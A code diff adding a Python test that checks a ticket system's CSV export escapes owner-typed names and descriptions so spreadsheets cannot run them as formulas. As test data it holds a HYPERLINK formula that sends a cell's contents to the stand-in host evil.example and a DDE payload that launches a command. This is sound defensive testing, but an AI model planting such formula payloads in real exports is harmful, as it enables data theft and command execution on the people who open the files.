@@ -62,3 +62,28 @@ async def test_export_writes_tickets_and_their_signed_history_without_phone_numb
         ("created", "Li"), ("dispatched", "Wang Fang"),
     ]  # fmt: skip
     assert b"13800000000" not in raw
+
+
+async def test_export_shows_what_owners_typed_as_text_never_as_a_formula(
+    database_url: str, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # An owner's Telegram name and description are theirs to choose; opened in a spreadsheet
+    # at the office, a cell starting with = + - or @ would otherwise run as a formula.
+    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    text = '=cmd|" /C calc"!A0 kitchen tap drips'
+    async with Desk(database_url, clock) as desk:
+        await staffed(desk)
+        await desk.owner(OWNER, name=name, lang="en")
+        await file_home_repair(desk, text=text, photos=0)
+    monkeypatch.setenv("PROPDESK_DATABASE_URL", database_url)
+    assert await _cli("export", "--out", str(tmp_path / "out")) == 0
+    tickets_text = (tmp_path / "out" / "tickets.csv").read_text(encoding="utf-8-sig")
+    events_text = (tmp_path / "out" / "events.csv").read_text(encoding="utf-8-sig")
+    tickets = list(csv.DictReader(tickets_text.splitlines()))
+    events = list(csv.DictReader(events_text.splitlines()))
+
+    assert tickets[0]["owner"] == "'" + name
+    assert tickets[0]["summary"] == "'" + text
+    assert events[0]["actor"] == "'" + name
+    cells = [cell for row in csv.reader((tickets_text + events_text).splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]
